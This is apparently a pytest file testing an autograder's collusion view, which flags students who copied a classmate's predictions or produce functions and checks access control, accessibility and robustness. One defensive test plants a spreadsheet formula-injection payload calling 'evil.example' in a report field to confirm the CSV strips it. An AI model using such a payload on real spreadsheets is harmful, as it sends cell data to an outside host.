"""The collusion view (issue 48), on planted classes graded by the real grader: a student who copied a classmate's
predictions (right for the classmate's parameters, wrong for their own) is found, in the right direction; an honest
class that shares a misconception is not flagged; produce functions copied with renamed variables, other comments,
formatting and numbers are found, and a cell left as the release made it is not evidence; the page passes axe in
Chromium; on the course service the view is staff-only (a student's token gets 403), has a CSV and is made again
when course.toml changes which hand-in counts; only notebooks whose bytes were graded are read; a report showing a
number of 401 digits or a formula after a number breaks nothing and shows only the number."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import shutil
import sys
from pathlib import Path

import nbformat
import pytest

from autograder import wire
from autograder.authoring.collusion import functions_of
from autograder.grading.plan import draw_point
from autograder.keyfile import load_key
from conftest import ASSIGNMENT, ROOT, run_cli
from servers.course import call

NB = "backward-vs-grad.ipynb"
# h010's "one pass only" value 3·x² (x = -1.64: 8.069) is the right value 3·k·x² at h251's point (k = 4, x = 0.82:
# 8.0688), by chance: the view must show it as one match, consistent with chance
HONEST = ("amy", "bob", "cara", "dan", "eli", "fay", "h010", "h251")

# pat's own way of writing exercise 4; quin's is pat's with every variable renamed, other comments, a docstring,
# other spacing and other numbers (the same syntax tree once names and literals are normalised)
PAT_EX4 = ("def ex4_accumulate(x, k):\n    done = 0\n    while done < k:\n        y = x * x * x\n        y.backward()\n"
           "        done = done + 1\n    return None\n\n\n"
           "def ex4_reset(x, k):\n    ex4_accumulate(x, k)\n    x.grad = None\n    out = x ** 3\n    out.backward()\n"
           "    return None\n")
QUIN_EX4 = ("def ex4_accumulate(t, n):\n    \"\"\"k passes.\"\"\"\n    # count the passes\n    i=2\n    while i <  n:\n"
            "        cube = t*t*t\n        cube.backward()   # accumulate\n        i = i + 7\n    return None\n\n"
            "def ex4_reset(t, n):\n    ex4_accumulate(t, n)\n    t.grad = None  # reset\n    c = t ** 2\n"
            "    c.backward()\n    return None\n")


def _scenarios():
    sys.path.insert(0, str(ROOT / "examples"))
    try:
        from make_submissions import answered, load_scenarios
    finally:
        sys.path.remove(str(ROOT / "examples"))
    return answered, load_scenarios(ASSIGNMENT)


def _point(key, student: str) -> dict:
    return draw_point(key.parameters, ASSIGNMENT, student, "own")


def planted_class(released_nb: Path, key, folder: Path) -> dict[str, str]:
    """Write the planted class into `folder` (<student>.ipynb) and return what each student is. Honest students answer
    right at their own point but share one misconception (p4_after_k = 3x², one backward pass only) and write the
    usual produce code; src is honest; zed handed in src's predictions under zed's own id; pat and quin wrote exercise
    4 one unusual way (quin renamed it); uma and val left exercises 5 and 6 as the release made them; wes's file is cut
    off (not gradable, and not in `what`)."""
    answered, module = _scenarios()
    folder.mkdir(parents=True, exist_ok=True)
    what = {}

    def write(student: str, sources: dict[str, str]) -> None:
        nbformat.write(answered(released_nb, student, sources), folder / f"{student}.ipynb")

    for s in HONEST:
        x = _point(key, s)["x0"]
        pred = module.predictions(_point(key, s))
        pred["ex4-predict"] = f"p4_after_k = {3 * x * x:.4g}\np4_after_reset = {3 * x * x:.4g}"
        write(s, {**pred, **module.CODE})
        what[s] = "honest, one pass only"
    write("src", {**module.predictions(_point(key, "src")), **module.CODE})
    what["src"] = "honest"
    write("zed", {**module.predictions(_point(key, "src")), **module.CODE})   # src's numbers under zed's id
    what["zed"] = "copied src's predictions"
    write("pat", {**module.predictions(_point(key, "pat")), **module.CODE, "ex4-produce": PAT_EX4})
    write("quin", {**module.predictions(_point(key, "quin")), **module.CODE, "ex4-produce": QUIN_EX4})
    what["pat"] = what["quin"] = "exercise 4 the same code"
    for s in ("uma", "val"):
        code = {k: v for k, v in module.CODE.items() if k not in ("ex5-produce", "ex6-produce")}
        write(s, {**module.predictions(_point(key, s)), **code})
        what[s] = "exercises 5 and 6 left as released"
    text = (folder / "src.ipynb").read_text()
    (folder / "wes.ipynb").write_text(text[: len(text) // 2])   # cut off: not gradable, so not compared (never a 0)
    return what


@pytest.fixture(scope="module")
def graded(released, key, tmp_path_factory):
    """The planted class graded by `autograder grade`, then `autograder collusion`: (what each is, out folder, the
    subs folder)."""
    folder = tmp_path_factory.mktemp("collusion")
    what = planted_class(released[0] / NB, key, folder / "subs")
    out = folder / "out"
    p = run_cli("grade", str(folder / "subs"), "--out", str(out), "--key", str(released[1]), timeout=900)
    assert p.returncode == 0, p.stderr
    p = run_cli("collusion", str(out), "--key", str(released[1]), "--submissions", str(folder / "subs"))
    assert p.returncode == 0, p.stderr
    assert "Evidence only: no score changed." in p.stdout
    return what, out, folder / "subs"


def _rows(out: Path) -> list[dict[str, str]]:
    return list(csv.DictReader((out / "collusion.csv").open(encoding="utf-8")))


def test_copied_predictions_are_found_with_whose_wrong_answer_matched_whose_point(graded, key):
    what, out, _ = graded
    view = json.loads((out / "collusion.json").read_text())
    assert view["schema"] == "autograd-lab/collusion" and view["students"] == len(what) == 14
    assert view["pairs_compared"] == 14 * 13
    assert view["notes"][0] == ("1 report(s) that do not count (not gradable, superseded, or waiting for staff to "
                                "choose among a student's submissions) were not compared: wes.")
    flagged = [(p["student"], p["source"]) for p in view["prediction_pairs"] if p["evidence"] == "unlikely by chance"]
    assert flagged == [("zed", "src")]   # zed's wrong answers are right at src's point; src's are right at their own
    zed = next(p for p in view["prediction_pairs"] if p["student"] == "zed" and p["source"] == "src")
    matched = {m["check_id"] for m in zed["matches"]}
    # src's seven distinct numbers (p3_derivative repeats p2's, exercise 6 repeats p4_after_reset: one each)
    assert matched == {"1.predict.grad", "2.predict.returns", "3.predict.grad", "4.predict.after_k",
                       "4.predict.after_reset", "5.predict.x_grad"}
    assert zed["opportunities"] == 6 and zed["chance"] < 1e-6 and zed["class_chance"] < 0.01
    x = _point(key, "src")["x0"]
    grad = next(m for m in zed["matches"] if m["check_id"] == "1.predict.grad")
    assert math.isclose(float(grad["value"]), 2 * x, rel_tol=2e-3) and float(grad["there"]) == pytest.approx(2 * x)
    assert not any(p["student"] == "src" for p in view["prediction_pairs"])   # src made no wrong prediction
    rows = [r for r in _rows(out) if r["kind"] == "predictions" and r["evidence"] == "unlikely by chance"]
    assert [(r["student"], r["other"]) for r in rows] == [("zed", "src")]
    assert rows[0]["direction"] == "zed's wrong predictions are right at src's point" and rows[0]["matches"] == "6"
    assert all(r["score_effect"] == "none: evidence only" for r in _rows(out))


def test_an_honest_class_sharing_a_misconception_is_not_flagged_and_no_score_changes(graded):
    what, out, _ = graded
    view = json.loads((out / "collusion.json").read_text())
    honest = [p for p in view["prediction_pairs"] if p["student"] in HONEST]
    # each of the eight made the same mistake at their own point; h010's wrong value is right at h251's point by
    # chance, and so is fay's (whose x is ±1.64 too): one match each, listed, consistent with chance
    assert sorted((p["student"], p["source"], [m["check_id"] for m in p["matches"]]) for p in honest) == [
        ("fay", "h251", ["4.predict.after_k"]), ("h010", "h251", ["4.predict.after_k"])]
    assert all(p["evidence"] == "consistent with chance" and p["class_chance"] > 0.01 for p in honest)
    pair = next(p for p in honest if p["student"] == "h010")
    assert pair["opportunities"] == 1 and pair["evidence"] == "consistent with chance"
    assert 0 < pair["chance"] < 0.01 and pair["class_chance"] == pytest.approx(min(1.0, pair["chance"] * 14 * 13))
    assert pair["class_chance"] > 0.01
    assert (pair["matches"][0]["value"], pair["matches"][0]["there"]) == ("8.069", "8.0688")
    reports = {json.loads(p.read_text())["student"]: json.loads(p.read_text()) for p in (out / "reports").glob("*.json")}
    assert reports["zed"]["score"] == 17.0 and reports["src"]["score"] == 26.0   # graded as ever: the view scores nothing
    assert all(r["status"] == "failed" for r in reports["amy"]["outcomes"] if r["check_id"] == "4.predict.after_k")


def test_produce_functions_copied_with_renamed_variables_are_found_and_the_released_stub_is_not(graded):
    what, out, _ = graded
    view = json.loads((out / "collusion.json").read_text())
    pairs = {tuple(p["students"]): p for p in view["cell_pairs"]}
    assert list(pairs) == [("pat", "quin")]   # the usual code of the others is shared by many: no evidence
    assert [(f["function"], f["exercise"], f["shared_by"]) for f in pairs["pat", "quin"]["functions"]] == [
        ("ex4_accumulate", "4", 2), ("ex4_reset", "4", 2)]
    assert ("uma", "val") not in pairs   # both left exercises 5 and 6 as released: not evidence
    assert view["cells_read"] == 14
    row = next(r for r in _rows(out) if r["kind"] == "produce cells")
    assert (row["student"], row["other"], row["evidence"]) == ("pat", "quin", "the same code")


def test_the_collusion_command_without_the_notebooks_says_produce_cells_were_not_compared(graded, released, tmp_path):
    what, out, _ = graded
    copy = tmp_path / "out"
    copy.mkdir()
    (copy / "reports").symlink_to(out / "reports")
    p = run_cli("collusion", str(copy), "--key", str(released[1]))
    assert p.returncode == 0, p.stderr
    view = json.loads((copy / "collusion.json").read_text())
    assert view["cells_read"] == 0 and view["cell_pairs"] == []
    assert any("produce cells were not compared" in n for n in view["notes"])
    assert [(q["student"], q["source"]) for q in view["prediction_pairs"] if q["evidence"] == "unlikely by chance"] \
        == [("zed", "src")]
    p = run_cli("collusion", str(copy), "--key", str(tmp_path / "nokey.json"))
    assert p.returncode == 2 and "no key at" in p.stderr


def test_only_the_notebooks_whose_bytes_were_graded_are_read_and_the_others_are_named(graded, released, tmp_path):
    """quin's notebook was changed after grading (a line added) and uma's is not at hand: neither is read, and the
    view names both; the pair pat and quin, found from the graded bytes, is then not shown."""
    what, out, subs = graded
    record = json.loads((out / "graded-bytes.json").read_text())
    assert record["submissions"]["quin.ipynb"]["sha256"] == hashlib.sha256((subs / "quin.ipynb").read_bytes()).hexdigest()
    folder = tmp_path / "subs"
    shutil.copytree(subs, folder)
    nb = nbformat.read(folder / "quin.ipynb", as_version=4)
    nb.cells.append(nbformat.v4.new_code_cell("# written after the hand-in"))
    nbformat.write(nb, folder / "quin.ipynb")
    (folder / "uma.ipynb").unlink()
    copy = tmp_path / "out"
    shutil.copytree(out, copy)
    p = run_cli("collusion", str(copy), "--key", str(released[1]), "--submissions", str(folder))
    assert p.returncode == 0, p.stderr
    view = json.loads((copy / "collusion.json").read_text())
    assert view["cells_read"] == 12 and view["cell_pairs"] == []
    assert (f"1 notebook(s) in {folder} are not the bytes their report was graded from (changed since, or another file "
            f"of that name), and were not compared: quin.ipynb.") in view["notes"]
    assert ("2 counted submission(s) had no notebook at hand (or none whose bytes were graded), so their produce cells "
            "were not compared: quin.ipynb, uma.ipynb.") in view["notes"]
    (copy / "graded-bytes.json").unlink()   # a batch graded before it was written: the fingerprint says it
    p = run_cli("collusion", str(copy), "--key", str(released[1]), "--submissions", str(subs))
    assert p.returncode == 0, p.stderr
    view = json.loads((copy / "collusion.json").read_text())
    assert view["cells_read"] == 14 and [tuple(c["students"]) for c in view["cell_pairs"]] == [("pat", "quin")]


def test_a_report_showing_a_huge_number_or_a_formula_after_a_number_breaks_nothing(graded, released, key, tmp_path):
    """zed's report edited as a forged commit once made it: one wrong prediction shown as a class name of 401 digits
    (float() of it overflows), one as src's number followed by a spreadsheet formula as a comment. `autograder
    collusion` still writes the view, counts the one it cannot read, and shows the other as the number only."""
    what, out, _ = graded
    copy = tmp_path / "out"
    shutil.copytree(out / "reports", copy / "reports")
    path = copy / "reports" / "zed.json"
    report = json.loads(path.read_text())
    x = _point(key, "src")["x0"]
    for o in report["outcomes"]:
        if o["check_id"] == "3.predict.grad":
            o["observed"] = "1" + "0" * 400
        if o["check_id"] == "1.predict.grad":
            o["observed"] = f'{2 * x!r} #;=WEBSERVICE("http://evil.example/"&A1)'
    path.write_text(json.dumps(report))
    p = run_cli("collusion", str(copy), "--key", str(released[1]))
    assert p.returncode == 0, p.stderr
    view = json.loads((copy / "collusion.json").read_text())
    assert ("1 wrong prediction(s) were shown in a form this view does not read (or cannot compare), and were not "
            "compared.") in view["notes"]
    zed = next(q for q in view["prediction_pairs"] if (q["student"], q["source"]) == ("zed", "src"))
    assert [m["value"] for m in zed["matches"] if m["check_id"] == "1.predict.grad"] == [repr(2 * x)]
    assert "3.predict.grad" not in {m["check_id"] for m in zed["matches"]} and zed["evidence"] == "unlikely by chance"
    sheet, page = (copy / "collusion.csv").read_text(), (copy / "collusion.html").read_text()
    assert "WEBSERVICE" not in sheet + page and f"1.predict.grad: {2 * x!r} = " in sheet
    assert sheet.splitlines()[0].startswith('"kind","student","other"')   # every cell quoted


def test_the_collusion_page_passes_axe_and_shows_the_pairs(graded, browser):
    from selenium.webdriver.common.by import By

    from test_accessibility import AXE, violations

    what, out, _ = graded
    assert violations(browser, out / "collusion.html", AXE.read_text()) == []
    browser.get((out / "collusion.html").as_uri())
    assert browser.find_element(By.ID, "evidence-only").text.startswith("Evidence only: nothing here changes a score.")
    assert browser.find_element(By.ID, "not-meant").text.startswith("What a match does not mean: it says that A's "
                                                                     "wrong answers are right at B's point.")
    row = browser.find_element(By.CSS_SELECTOR, "tr.agl-pair[data-student='zed'][data-source='src']")
    assert "unlikely by chance" in row.text and "1.predict.grad" in row.text
    assert "pat and quin" in browser.find_element(By.ID, "cell-pairs").text
    assert not browser.find_elements(By.TAG_NAME, "script")


def test_on_the_service_the_collusion_view_is_staff_only_with_a_csv(course, released, key, tmp_path, browser):
    from selenium.webdriver.common.by import By
    from selenium.webdriver.support.ui import WebDriverWait

    answered, module = _scenarios()
    api = course.svc.url + "/api/v1"
    view = f"{api}/assignments/{ASSIGNMENT}/collusion"
    assert call(view, course.staff)[0] == 404   # nothing graded yet
    for student, point_of in (("amy", "amy"), ("ben", "amy"), ("cat", "cat")):   # ben hands in amy's numbers
        nb = answered(released[0] / NB, student, {**module.predictions(_point(key, point_of)), **module.CODE})
        status, _ = call(f"{api}/assignments/{ASSIGNMENT}/handins", course.tokens[student], "POST",
                         raw=nbformat.writes(nb).encode())
        assert status == 201
    long_name = {"t": "class", "name": "1" + "0" * 400}   # a prediction no kernel sends (the probe clips at 200)
    results = "".join(json.dumps(r) + "\n" for r in [
        {"k": "hello", "schema": wire.SCHEMA, "v": wire.VERSION, "torch": "2.13.0", "cells": 2, "cuda": False},
        {"k": "cell", "i": 0, "status": "ok"}, {"k": "cell", "i": 1, "status": "ok"},
        {"k": "name", "name": "p1_returns", "value": {"t": "none"}}, {"k": "name", "name": "p1_grad", "value": long_name},
        {"k": "done"}])
    status, answer = call(f"{api}/predictions", course.tokens["cat"], "POST", {
        "assignment": ASSIGNMENT, "exercise": "1", "student": "cat", "cells": ["p1_returns = None\np1_grad = 1",
        'lab.check("1")'], "labels": ["", ""], "results": results})
    assert status == 200 and answer["missing"] == ["p1_grad"] and answer["commit"] is None   # refused: not committed
    assert answer["kind"] == "incomplete"
    r = run_cli("grade", "--service", course.svc.url, "--assignment", ASSIGNMENT, "--key", str(course.key_path),
                "--out", str(tmp_path / "out"), env={"AUTOGRAD_LAB_TOKEN": course.staff}, timeout=600)
    assert r.returncode == 0, r.stderr
    r = run_cli("collusion", str(tmp_path / "out"), "--key", str(course.key_path))   # from OUT/handins/, which grade
    assert r.returncode == 0, r.stderr                                              # --service wrote
    batch = json.loads((tmp_path / "out" / "collusion.json").read_text())
    assert batch["cells_read"] == 3 and [(p["student"], p["source"]) for p in batch["prediction_pairs"]] == [
        ("ben", "amy")]
    for url in (view, view + "?format=csv"):
        status, answer = call(url, course.tokens["amy"])
        assert status == 403 and "staff token" in answer["error"]
        assert call(url, None)[0] == 401
    import urllib.request

    req = urllib.request.Request(view + "?format=csv", headers={"Authorization": f"token {course.staff}"})
    with urllib.request.urlopen(req, timeout=60) as got:
        assert got.headers["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(got.read().decode())))
    flagged = [(r["student"], r["other"]) for r in rows if r["evidence"] == "unlikely by chance"]
    assert flagged == [("ben", "amy")] and all(r["score_effect"] == "none: evidence only" for r in rows)
    browser.get(f"{api}/login?next=/api/v1/assignments/{ASSIGNMENT}/collusion")
    browser.find_element(By.ID, "token").send_keys(course.tokens["amy"])   # a student's token signs in nobody
    browser.find_element(By.ID, "signin").click()
    WebDriverWait(browser, 60).until(lambda d: "That is not a staff token of this course." in d.page_source)
    browser.get(f"{api}/login?next=/api/v1/assignments/{ASSIGNMENT}/stats")
    browser.find_element(By.ID, "token").send_keys(course.staff)
    browser.find_element(By.ID, "signin").click()
    WebDriverWait(browser, 60).until(lambda d: d.current_url == f"{api}/assignments/{ASSIGNMENT}/stats")
    browser.find_element(By.CSS_SELECTOR, "#collusion-link a").click()   # a page of the class view
    WebDriverWait(browser, 60).until(lambda d: d.current_url == view)
    row = browser.find_element(By.CSS_SELECTOR, "tr.agl-pair[data-student='ben'][data-source='amy']")
    assert "unlikely by chance" in row.text
    assert browser.find_element(By.ID, "evidence-only").text.startswith("Evidence only")
    browser.delete_all_cookies()


def test_on_the_service_a_course_toml_change_makes_the_collusion_view_again(released, key, tmp_path):
    """ben hands in amy's numbers on time, then his own late; under "last-on-time" the first counts and is graded, and
    the view flags (ben, amy). course.toml then says the last hand-in counts: ben's that counts is not graded yet, so
    the view, made again though no hand-in or report changed, compares amy and cat only."""
    import datetime as dt
    import time

    from autograder.service.commands import publish
    from servers.course import Service

    answered, module = _scenarios()
    config = tmp_path / "course.toml"
    head = f'[assignments."{ASSIGNMENT}"]\n'
    config.write_text(head + f"due = {(dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=7)).isoformat()}\n")
    svc = Service(tmp_path / "service", args=("--config", str(config)))
    try:
        staff = svc.add("prof", staff=True)["prof"]
        tokens = svc.add("amy", "ben", "cat")
        publish(released[1], svc.url, tmp_path / "student", "token", released[0] / NB, token=staff)
        api = svc.url + "/api/v1"

        def hand_in(student: str, point_of: str) -> dict:
            nb = answered(released[0] / NB, student, {**module.predictions(_point(key, point_of)), **module.CODE})
            status, receipt = call(f"{api}/assignments/{ASSIGNMENT}/handins", tokens[student], "POST",
                                   raw=nbformat.writes(nb).encode())
            assert status == 201
            return receipt

        for student, point_of in (("amy", "amy"), ("cat", "cat")):
            hand_in(student, point_of)
        first = hand_in("ben", "amy")
        due = dt.datetime.fromisoformat(first["received"]).replace(microsecond=0) + dt.timedelta(seconds=1)
        config.write_text(head + f"due = {due.isoformat()}\n")
        while dt.datetime.now(dt.timezone.utc) < due + dt.timedelta(seconds=0.3):
            time.sleep(0.1)
        assert hand_in("ben", "ben")["counts"] is False   # late: his first, on time, counts
        r = run_cli("grade", "--service", svc.url, "--assignment", ASSIGNMENT, "--key", str(released[1]),
                    "--out", str(tmp_path / "out"), env={"AUTOGRAD_LAB_TOKEN": staff}, timeout=600)
        assert r.returncode == 0, r.stderr
        view = f"{api}/assignments/{ASSIGNMENT}/collusion?format=csv"

        def flagged() -> list[tuple[str, str]]:
            import urllib.request

            req = urllib.request.Request(view, headers={"Authorization": f"token {staff}"})
            with urllib.request.urlopen(req, timeout=60) as got:
                rows = list(csv.DictReader(io.StringIO(got.read().decode())))
            return [(r["student"], r["other"]) for r in rows if r["evidence"] == "unlikely by chance"]

        assert flagged() == [("ben", "amy")]
        config.write_text(head + f'due = {due.isoformat()}\ncounts = "last"\n')
        assert flagged() == []   # ben's hand-in that counts now (his own numbers) is not graded: not compared
    finally:
        svc.stop()


def _notebook(cells: dict[str, str]) -> bytes:
    nb = nbformat.read(ROOT / "assignments" / ASSIGNMENT / NB, as_version=4)
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid in cells:
            c.source = cells[gid]
    return nbformat.writes(nb).encode()


def test_a_released_cell_left_as_it_was_is_not_evidence_and_a_hostile_function_cannot_break_the_view():
    key = load_key(ROOT / "assignments" / ASSIGNMENT / "public_key.json")
    deep = "def ex1(x):\n    return " + "+".join(["x"] * 1200) + "\n"   # 4,800 nodes, nested 1,200 deep
    found = functions_of(_notebook({"ex1-produce": deep, "ex3-produce": (
        "def ex3(x):\n    y = x ** 2 * torch.sin(x)\n    d, = torch.autograd.grad(y, x)\n    return d\n")}), "s.ipynb", key)
    assert "ex3" in found   # written by the student
    assert "ex1" not in found   # too deep to walk: left out, and nothing raised
    assert not {"ex2", "ex5", "ex6_strict"} & set(found)   # as released (a stub, its nbgrader checksum unchanged)
    assert functions_of(b"{not a notebook", "s.ipynb", key) == {}
